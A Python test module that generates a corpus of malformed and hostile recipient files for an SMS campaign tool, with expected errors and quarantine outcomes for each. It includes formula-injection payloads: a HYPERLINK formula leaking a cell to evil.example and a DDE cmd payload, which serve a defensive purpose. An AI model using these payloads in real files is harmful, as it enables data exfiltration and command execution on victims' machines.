"""A corpus of malformed and hostile recipient files, written at test time (nothing binary is committed).

Each `Item` says what the file is, how to make it, and what smscast must make of it:

* `rows is None`: loading fails with a SmscastError whose message holds every word of `error` (case-
  insensitive) and none of the file's phone numbers (`phones`);
* otherwise: load + validate give exactly `rows` records, every one with a status, and the reasons of the
  quarantined ones count as `codes` (the `;`-joined error_code -> how many rows); `valid` rows pass.

`bodies` pins the rendered body of some rows (formula-looking cells and template braces must come out as the
literal text, never evaluated or rendered twice); `e164` pins normalised phones; `max_seconds` bounds the time
of load + validate; `send` puts the item in the subset that also runs the whole `send_campaign` flow.

`write_corpus(directory)` writes every item; `Item.write(directory)` writes one (the big ones are made on
demand, so a test that needs one item does not pay for the 50 MB ones).
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import polars as pl

SNIFF = 64 * 1024  # tasks/load.py reads this much of a text file's head before Polars does


def phone(i: int) -> str:
    return f"+4474009{i:05d}"


@dataclass(frozen=True)
class Item:
    name: str
    filename: str
    make: Callable[[], bytes]
    note: str  # what the item is and what it gives
    rows: int | None = None  # None: loading must fail
    error: tuple[str, ...] = ()  # words the error message must hold
    valid: int = 0
    codes: Mapping[str, int] = field(default_factory=dict)
    spec: Mapping[str, Any] = field(default_factory=dict)  # CampaignSpec fields besides the defaults
    phones: tuple[str, ...] = ()  # phone numbers written in the file: never in an error message
    bodies: Mapping[int, str] = field(default_factory=dict)  # row_index -> rendered body
    e164: Mapping[int, str] = field(default_factory=dict)  # row_index -> normalised phone
    max_seconds: float | None = None
    send: bool = False

    def write(self, directory: Path) -> Path:
        path = directory / self.filename
        if not path.exists():
            path.write_bytes(self.make())
        return path


def csv_text(header: str, rows: list[str], eol: str = "\n") -> bytes:
    return (eol.join([header, *rows]) + eol).encode("utf-8")


def parquet_bytes(frame: pl.DataFrame) -> bytes:
    buf = io.BytesIO()
    frame.write_parquet(buf, compression="uncompressed")
    return buf.getvalue()


def _parquet_recipients(n: int = 200) -> bytes:
    return parquet_bytes(
        pl.DataFrame({"phone": [phone(i) for i in range(n)], "body": [f"Hello {i}" for i in range(n)]})
    )


def _cut(
    fraction: float | None = None, keep: int | None = None, drop: int | None = None
) -> Callable[[], bytes]:
    def make() -> bytes:
        data = _parquet_recipients()
        if keep is not None:
            return data[:keep]
        if drop is not None:
            return data[:-drop]
        assert fraction is not None
        return data[: int(len(data) * fraction)]

    return make


_PARQUET_PHONES = tuple(phone(i) for i in range(200))

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]

BRACES = [
    "{{other}}",
    "{",
    "}}",
    "{{ name }}",
    "{{name}}{{name}}",
    "${HOME} %s {0} \\{{x}}",
]
OTHERS = ["{{name}}", "}", "{{", "{{other}}", "{{{other}}}", "{{1}}"]

INVISIBLE_PHONES = [
    ("\u200e+44 7400 900001\u200e", "+447400900001"),  # LEFT-TO-RIGHT MARK around it
    ("+44\u202e7400900002", "+447400900002"),  # RIGHT-TO-LEFT OVERRIDE inside
    ("\ufeff+447400900003", "+447400900003"),  # a BOM glued to the front
    ("+44\u200b7400\u200b900004", "+447400900004"),  # ZERO WIDTH SPACEs
    ("\u2066+44 7400 900005\u2069", "+447400900005"),  # LEFT-TO-RIGHT ISOLATE ... POP
    ("+44\u00ad7400\u00ad900006", "+447400900006"),  # SOFT HYPHENs
    ("\u202b+44\u200d7400\u2060900007\u202c", "+447400900007"),  # embedding, ZWJ, WORD JOINER
    ("\u200f\u200e\u200f", None),  # nothing but marks: no phone at all
]


def _big_body(size: int) -> Callable[[], bytes]:
    def make() -> bytes:
        return b"phone,body\n" + phone(1).encode() + b"," + b"x" * size + b"\n" + phone(2).encode() + b",ok\n"

    return make


def _dup_phones() -> bytes:
    spellings = [phone(1), "+44 7400 900001", "0044 7400-900001", "+44 (0)7400 900001"]
    return csv_text("phone,body", [f"{spellings[i % 4]},Hi" for i in range(200_000)])


def _latin1_after_head() -> bytes:
    rows = [f"{phone(i)},hello" for i in range(SNIFF // 16 + 100)]
    return csv_text("phone,body", rows) + f"{phone(99999)},café\n".encode("latin-1")


def _nul_after_head() -> bytes:
    rows = [f"{phone(i)},hello" for i in range(SNIFF // 16 + 100)]
    return csv_text("phone,body", rows) + phone(99999).encode() + b",he\x00llo\n"


def _binary() -> bytes:
    return bytes(range(256)) * 64


def _ndjson(records: list[dict[str, Any]]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


ITEMS: list[Item] = [
    # ---- truncated and corrupt Parquet ----------------------------------------------------------------------
    Item(
        "parquet_truncated_to_0_bytes",
        "t0.parquet",
        _cut(keep=0),
        "0 bytes: 'is empty (0 bytes): no rows to send'",
        error=("empty", "no rows"),
    ),
    Item(
        "parquet_truncated_to_4_bytes",
        "t4.parquet",
        _cut(keep=4),
        "just the magic: 'not a readable Parquet file, truncated or corrupt?'",
        error=("parquet", "truncated or corrupt"),
    ),
    Item(
        "parquet_truncated_to_12_bytes",
        "t12.parquet",
        _cut(keep=12),
        "magic + a few bytes: truncated or corrupt",
        error=("parquet", "truncated or corrupt"),
    ),
    Item(
        "parquet_truncated_at_half",
        "thalf.parquet",
        _cut(fraction=0.5),
        "cut mid data pages, no footer: truncated or corrupt",
        error=("parquet", "truncated or corrupt"),
        phones=_PARQUET_PHONES,
        send=True,
    ),
    Item(
        "parquet_truncated_in_footer",
        "tfoot.parquet",
        _cut(drop=40),
        "cut inside the footer metadata: truncated or corrupt",
        error=("parquet", "truncated or corrupt"),
        phones=_PARQUET_PHONES,
    ),
    Item(
        "parquet_missing_last_byte",
        "tlast.parquet",
        _cut(drop=1),
        "only the final magic byte gone: truncated or corrupt",
        error=("parquet", "truncated or corrupt"),
        phones=_PARQUET_PHONES,
    ),
    Item(
        "parquet_magic_around_garbage",
        "garbage.parquet",
        lambda: b"PAR1" + b"\x00" * 100 + b"PAR1",
        "PAR1 + zeros + PAR1: truncated or corrupt",
        error=("parquet", "truncated or corrupt"),
    ),
    Item(
        "parquet_phones_as_floats",
        "floats.parquet",
        lambda: parquet_bytes(
            pl.DataFrame({"phone": [4.477e11, 447400900123.0, float("nan")], "body": ["a", "b", "c"]})
        ),
        "float64 phones: phone_float (stored as a float, digits may be lost); NaN is no phone",
        rows=3,
        codes={"phone_float": 2, "phone_missing": 1},
    ),
    Item(
        "parquet_body_all_null",
        "body_null.parquet",
        lambda: parquet_bytes(pl.DataFrame({"phone": [phone(1), phone(2)], "body": [None, None]})),
        "a body column of type Null (all nulls): every row body_missing",
        rows=2,
        codes={"body_missing": 2},
    ),
    Item(
        "parquet_body_all_nan",
        "body_nan.parquet",
        lambda: parquet_bytes(
            pl.DataFrame({"phone": [phone(1), phone(2)], "body": [float("nan"), float("nan")]})
        ),
        "pandas' missing numbers (NaN) as the body: null, body_missing, never the text 'NaN'",
        rows=2,
        codes={"body_missing": 2},
    ),
    # ---- delimiters ----------------------------------------------------------------------------------------
    Item(
        "csv_semicolon_delimited",
        "semicolon.csv",
        lambda: csv_text("phone;body", [f"{phone(1)};Hi, Ann", f'{phone(2)};"Hi; Bob"', f"{phone(3)};Yo"]),
        "header has ';' and no ',': read as ';'-separated (a European-locale Excel export); commas in bodies "
        "stay text",
        rows=3,
        valid=3,
        bodies={0: "Hi, Ann", 1: "Hi; Bob", 2: "Yo"},
        send=True,
    ),
    Item(
        "csv_tab_delimited",
        "tab.csv",
        lambda: csv_text("phone\tbody", [f"{phone(1)}\tHi, Ann", f"{phone(2)}\tYo"]),
        "tab-separated: detected like ';'",
        rows=2,
        valid=2,
        bodies={0: "Hi, Ann"},
    ),
    Item(
        "csv_pipe_delimited",
        "pipe.csv",
        lambda: csv_text("phone|body", [f"{phone(1)}|Hi, Ann", f"{phone(2)}|Yo"]),
        "'|'-separated: detected like ';'",
        rows=2,
        valid=2,
    ),
    Item(
        "csv_semicolon_in_an_unquoted_field",
        "semicolon_ragged.csv",
        lambda: csv_text("phone;body", [f"{phone(1)};Hi; Ann", f"{phone(2)};Yo"]),
        "';' file with an unquoted ';' in a body: 'more fields than the header … separated by semicolons'",
        error=("more fields", "semicolons"),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "csv_fewer_fields_than_the_header",
        "fewer.csv",
        lambda: csv_text("phone,body,name", [f"{phone(1)},Hi", f"{phone(2)},Hi,Bo"]),
        "a short row's missing fields are null: quarantined for its empty template variable",
        rows=2,
        valid=1,
        codes={"template_var_missing": 1},
        spec={"body": "Hi {{name}}"},
    ),
    # ---- encodings -----------------------------------------------------------------------------------------
    Item(
        "csv_latin1",
        "latin1.csv",
        lambda: f"phone,body\n{phone(1)},Café olé\n".encode("latin-1"),
        "'not UTF-8 text (invalid byte at line 2 …: Latin-1, Windows-1252 or mixed encodings?)'",
        error=("not UTF-8", "line 2", "re-save"),
        phones=(phone(1),),
    ),
    Item(
        "csv_windows1252_smart_quotes",
        "cp1252.csv",
        lambda: f"phone,body\n{phone(1)},“Hi” – Ann\n".encode("cp1252"),
        "cp1252 smart quotes: not UTF-8",
        error=("not UTF-8",),
        phones=(phone(1),),
    ),
    Item(
        "csv_utf16_with_bom",
        "utf16.csv",
        lambda: f"phone,body\n{phone(1)},hi\n".encode("utf-16"),
        "UTF-16 LE with BOM (Excel 'Unicode text'): 'is UTF-16 text; save it as UTF-8'",
        error=("UTF-16", "UTF-8"),
        phones=(phone(1),),
    ),
    Item(
        "csv_utf16be_without_bom",
        "utf16be.csv",
        lambda: f"phone,body\n{phone(1)},hi\n".encode("utf-16-be"),
        "UTF-16 BE, no BOM: 'looks like UTF-16 text without a byte-order mark'",
        error=("UTF-16", "byte-order mark"),
        phones=(phone(1),),
    ),
    Item(
        "csv_mixed_encodings_in_head",
        "mixed.csv",
        lambda: f"phone,body\n{phone(1)},café\n".encode() + f"{phone(2)},café\n".encode("latin-1"),
        "UTF-8 then a Latin-1 line: not UTF-8, line 3",
        error=("not UTF-8", "line 3"),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "csv_mixed_encodings_after_head",
        "mixed_tail.csv",
        _latin1_after_head,
        "a Latin-1 line beyond the 64 KiB sniff window: Polars' decoder refuses, 'not UTF-8 text'",
        error=("not UTF-8",),
        phones=(phone(1), phone(99999)),
    ),
    Item(
        "csv_utf8_bom",
        "bom.csv",
        lambda: b"\xef\xbb\xbf" + csv_text("phone,body", [f"{phone(1)},hi"]),
        "UTF-8 with a BOM: read (control item)",
        rows=1,
        valid=1,
    ),
    # ---- huge fields ---------------------------------------------------------------------------------------
    Item(
        "csv_field_of_50mb",
        "field50.csv",
        lambda: (
            b"phone,body,note\n"
            + phone(1).encode()
            + b",hi,"
            + b"n" * 50_000_000
            + b"\n"
            + phone(2).encode()
            + b",yo,x\n"
        ),
        "a 50 MB cell in a column nothing reads: both rows valid, carried",
        rows=2,
        valid=2,
        max_seconds=15,
    ),
    Item(
        "csv_body_of_50mb",
        "body50.csv",
        _big_body(50_000_000),
        "a 50 MB body: quarantined body_too_long;too_many_segments",
        rows=2,
        valid=1,
        codes={"body_too_long;too_many_segments": 1},
        max_seconds=15,
    ),
    Item(
        "csv_body_of_10mb",
        "body10.csv",
        _big_body(10_000_000),
        "a 10 MB body: quarantined body_too_long;too_many_segments, fast",
        rows=2,
        valid=1,
        codes={"body_too_long;too_many_segments": 1},
        max_seconds=5,
        send=True,
    ),
    Item(
        "csv_header_name_of_50mb",
        "header50.csv",
        lambda: b"phone" + b"e" * 50_000_000 + b",body\n" + phone(1).encode() + b",hi\n",
        "a 50 MB header name: 'its first line is longer than 64 KiB, which no header row is', at once",
        error=("first line", "64 KiB", "header"),
        phones=(phone(1),),
        max_seconds=15,
    ),
    Item(
        "csv_long_header_name",
        "header2k.csv",
        lambda: ("phone," + "n" * 2000 + "\n" + phone(1) + ",x\n").encode(),
        "a 2,000-character column name: carried; quoted cut short if a message names it",
        rows=1,
        valid=1,
        spec={"body": "Hi"},
    ),
    Item(
        "csv_long_header_name_without_phone",
        "header2k_nophone.csv",
        lambda: ("tel" + "n" * 2000 + ",body\n" + phone(1) + ",x\n").encode(),
        "no phone column and a 2,000-character name: 'looks like data', the name cut to 40 characters",
        error=("no 'phone' column", "…"),
        phones=(phone(1),),
    ),
    Item(
        "csv_extremely_long_phones",
        "longphone.csv",
        lambda: csv_text(
            "phone,body",
            [
                "+" + "4" * 100_000 + ",hi",
                "+" * 10_000 + ",hi",
                "+44 " + "7" * 5_000 + ",hi",
                f"{phone(1)},hi",
            ],
        ),
        "100k-digit and 5k-digit phones: phone_invalid; 10k '+' and no digit: phone_not_a_number",
        rows=4,
        valid=1,
        codes={"phone_invalid": 2, "phone_not_a_number": 1},
    ),
    # ---- NUL bytes -----------------------------------------------------------------------------------------
    Item(
        "csv_nul_inside_a_field",
        "nul.csv",
        lambda: csv_text("phone,body", [f"{phone(1)},hi", f"{phone(2)},he\x00llo"]),
        "a NUL in a body in the head: 'holds a NUL byte (line 3, byte offset …)'",
        error=("NUL", "line 3"),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "csv_nul_after_the_head",
        "nul_tail.csv",
        _nul_after_head,
        "a NUL in a body past the sniff window: 'the column 'body' holds a NUL character (row_index …)'",
        error=("NUL", "'body'", "row_index"),
        phones=(phone(1), phone(99999)),
        send=True,
    ),
    Item(
        "csv_nul_in_a_phone",
        "nul_phone.csv",
        lambda: csv_text("phone,body", ["+44\x007400900001,hi"]),
        "a NUL inside a phone: refused like any NUL",
        error=("NUL",),
        phones=("7400900001",),
    ),
    Item(
        "csv_binary_content",
        "binary.csv",
        _binary,
        "binary bytes named .csv: 'is binary, not CSV text'",
        error=("binary",),
    ),
    Item(
        "ndjson_escaped_nul",
        "nul.ndjson",
        lambda: _ndjson([{"phone": phone(1), "body": "ok"}, {"phone": phone(2), "body": "a\u0000b"}]),
        "NDJSON with a \\u0000 escape: refused, row named",
        error=("NUL", "row_index 1"),
        phones=(phone(1), phone(2)),
    ),
    # ---- formula-looking cells -----------------------------------------------------------------------------
    Item(
        "csv_formula_cells_as_bodies",
        "formula_body.csv",
        lambda: _csv_rows(["phone", "body"], [[phone(i), f] for i, f in enumerate(FORMULAS)]),
        "=HYPERLINK, +1, -2+3, @SUM, DDE as bodies: carried verbatim, never evaluated",
        rows=len(FORMULAS),
        valid=len(FORMULAS),
        bodies=dict(enumerate(FORMULAS)),
        send=True,
    ),
    Item(
        "csv_formula_cells_as_names",
        "formula_name.csv",
        lambda: _csv_rows(["phone", "name"], [[phone(i), f] for i, f in enumerate(FORMULAS)]),
        "formulas in a template variable: rendered as text",
        rows=len(FORMULAS),
        valid=len(FORMULAS),
        spec={"body": "Hi {{name}}!"},
        bodies={i: f"Hi {f}!" for i, f in enumerate(FORMULAS)},
    ),
    # ---- template braces in values -------------------------------------------------------------------------
    Item(
        "csv_template_variables_in_values",
        "braces.csv",
        lambda: _csv_rows(
            ["phone", "name", "other"],
            [[phone(i), n, o] for i, (n, o) in enumerate(zip(BRACES, OTHERS, strict=True))],
        ),
        "values holding {{other}}, {, }}, braces meant (--allow-braces): substituted once, never rendered again",
        rows=len(BRACES),
        valid=len(BRACES),
        spec={"body": "Hi {{name}}, from {{other}}.", "allow_braces": True},
        bodies={i: f"Hi {n}, from {o}." for i, (n, o) in enumerate(zip(BRACES, OTHERS, strict=True))},
        send=True,
    ),
    Item(
        "csv_placeholders_left_in_values",
        "braces_unrendered.csv",
        lambda: _csv_rows(
            ["phone", "name", "other"],
            [[phone(i), n, o] for i, (n, o) in enumerate(zip(BRACES, OTHERS, strict=True))],
        ),
        "a {{…}} left in the rendered body: quarantined template_unrendered; lone braces pass",
        rows=len(BRACES),
        valid=2,
        codes={"template_unrendered": 4},
        spec={"body": "Hi {{name}}, from {{other}}."},
        send=True,
    ),
    # ---- nulls, empties and nothing ------------------------------------------------------------------------
    Item(
        "csv_body_column_all_null",
        "body_null.csv",
        lambda: csv_text("phone,body", [f"{phone(i)}," for i in range(5)]),
        "a body column with no values: every row body_missing",
        rows=5,
        codes={"body_missing": 5},
        send=True,
    ),
    Item(
        "csv_empty_string_only_column",
        "empty_strings.csv",
        lambda: csv_text("phone,name", [f'{phone(i)},""' for i in range(4)]),
        'a column of "" used by the template: every row template_var_missing',
        rows=4,
        codes={"template_var_missing": 4},
        spec={"body": "Hi {{name}}"},
    ),
    Item(
        "csv_header_only",
        "header_only.csv",
        lambda: b"phone,body\n",
        "a header and no rows: 'holds no recipients (0 data rows) … --allow-empty'",
        error=("no recipients", "--allow-empty"),
    ),
    Item(
        "csv_header_only_allowed",
        "header_only_allowed.csv",
        lambda: b"phone,body\n",
        "a header and no rows with allow_empty: an empty campaign, zero rows",
        rows=0,
        spec={"allow_empty": True},
        send=True,
    ),
    Item(
        "csv_whitespace_only",
        "blank.csv",
        lambda: b" \r\n\n\t\n",
        "blank lines only: 'holds only blank lines: no rows to send'",
        error=("no rows",),
    ),
    # ---- duplicates ----------------------------------------------------------------------------------------
    Item(
        "csv_200k_duplicate_phones",
        "dups.csv",
        _dup_phones,
        "200,000 rows, one phone in four spellings: 1 valid, 199,999 duplicate_phone",
        rows=200_000,
        valid=1,
        codes={"duplicate_phone": 199_999},
        max_seconds=10,
        send=True,
    ),
    # ---- phones --------------------------------------------------------------------------------------------
    Item(
        "csv_phones_in_scientific_notation",
        "sci.csv",
        lambda: csv_text("phone,body", ["4.477e11,hi", "4.47400900123E+11,hi", '"4,477E+11",hi']),
        "spreadsheet-mangled 4.477e11: digits lost, quarantined as phone_float",
        rows=3,
        codes={"phone_float": 3},
    ),
    Item(
        "csv_phones_in_scientific_notation_with_country",
        "sci_gb.csv",
        lambda: csv_text("phone,body", ["4.477e11,hi", "4.47400900123E+11,hi"]),
        "the same with --default-country GB: phone_float, never a plausible wrong number",
        rows=2,
        codes={"phone_float": 2},
        spec={"default_country": "GB"},
    ),
    Item(
        "csv_invisible_characters_in_phones",
        "invisible.csv",
        lambda: _csv_rows(["phone", "body"], [[raw, "hi"] for raw, _ in INVISIBLE_PHONES]),
        "LRM/RLO/BOM/ZWSP/isolates/soft hyphen in phones: stripped, valid E.164; marks alone: phone_missing",
        rows=len(INVISIBLE_PHONES),
        valid=len(INVISIBLE_PHONES) - 1,
        codes={"phone_missing": 1},
        e164={i: e for i, (_, e) in enumerate(INVISIBLE_PHONES) if e},
        send=True,
    ),
    # ---- line endings and headers --------------------------------------------------------------------------
    Item(
        "csv_crlf",
        "crlf.csv",
        lambda: csv_text("phone,body", [f"{phone(1)},a", f"{phone(2)},b"], eol="\r\n"),
        "CRLF: read",
        rows=2,
        valid=2,
        bodies={0: "a", 1: "b"},
    ),
    Item(
        "csv_cr_only",
        "cr.csv",
        lambda: csv_text("phone,body", [f"{phone(1)},a", f"{phone(2)},b", f"{phone(3)},c"], eol="\r"),
        "CR-only line ends (old Mac): read with CR as the line end",
        rows=3,
        valid=3,
        bodies={0: "a", 2: "c"},
        send=True,
    ),
    Item(
        "csv_mixed_cr_and_lf",
        "mixed_eol.csv",
        lambda: f"phone,body\n{phone(1)},a\r{phone(2)},b\n".encode(),
        "CR alone and LF in one file: 'more fields than the header … one kind of line ending'",
        error=("line ending",),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "csv_trailing_delimiter",
        "trailing.csv",
        lambda: csv_text("phone,body,", [f"{phone(1)},a,", f"{phone(2)},b,"]),
        "a trailing ',' on every line: an extra unnamed empty column, carried",
        rows=2,
        valid=2,
        send=True,
    ),
    Item(
        "csv_two_trailing_delimiters",
        "trailing2.csv",
        lambda: csv_text("phone,body,,", [f"{phone(1)},a,,", f"{phone(2)},b,,"]),
        "two trailing ',': two unnamed columns ('' and '_duplicated_0'), carried",
        rows=2,
        valid=2,
    ),
    Item(
        "csv_quoted_headers",
        "quoted.csv",
        lambda: csv_text('"phone"," body ","name"', [f'"{phone(1)}","Hi {{x}}","Ann"']),
        "quoted (and padded) header names: read",
        rows=1,
        valid=1,
        bodies={0: "Hi {x}"},
    ),
    Item(
        "csv_duplicate_headers",
        "dup_header.csv",
        lambda: csv_text("phone,body,phone", [f"{phone(1)},hi,{phone(2)}"]),
        "phone twice: 'has the column 'phone' more than once'",
        error=("'phone' more than once",),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "csv_without_a_header",
        "noheader.csv",
        lambda: csv_text(phone(1) + ",hello", [f"{phone(2)},hi"]),
        "first line is a recipient: 'looks like data, not a header', its phone masked",
        error=("looks like data", "header"),
        phones=(phone(1), phone(2)),
        send=True,
    ),
    Item(
        "csv_unclosed_quote",
        "unclosed.csv",
        lambda: csv_text("phone,body", [f'{phone(1)},"never closed', f"{phone(2)},hi"]),
        "an unclosed quote: 'malformed CSV …, probably an unclosed double quote'",
        error=("quote",),
        phones=(phone(1), phone(2)),
    ),
    # ---- NDJSON --------------------------------------------------------------------------------------------
    Item(
        "ndjson_truncated",
        "trunc.ndjson",
        lambda: _ndjson([{"phone": phone(1), "body": "hi"}]) + b'{"phone": "' + phone(2).encode(),
        "last line cut mid-object: 'expected one JSON object per line'",
        error=("JSON",),
        phones=(phone(1), phone(2)),
    ),
    Item(
        "ndjson_object_as_phone",
        "nested.ndjson",
        lambda: _ndjson([{"phone": {"cc": 44, "n": phone(1)}, "body": "hi"}]),
        "a phone that is an object: 'the column 'phone' holds Struct… values where text is expected'",
        error=("'phone'", "text"),
        phones=(phone(1),),
    ),
]


def _csv_rows(header: list[str], rows: list[list[str]]) -> bytes:
    """RFC 4180 CSV with LF line ends (what spreadsheets write, minus the CR)."""
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue().encode("utf-8")


BY_NAME: dict[str, Item] = {item.name: item for item in ITEMS}
if len(BY_NAME) != len(ITEMS):  # pragma: no cover
    raise RuntimeError("corpus item names must be unique")


def write_corpus(directory: Path) -> dict[str, Path]:
    """Write every item into `directory`; name -> path."""
    directory.mkdir(parents=True, exist_ok=True)
    return {item.name: item.write(directory) for item in ITEMS}


if __name__ == "__main__":  # pragma: no cover - `python tests/hostile/corpus.py DIR` to look at the files
    import sys

    for name, path in write_corpus(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>12,}  {name}")
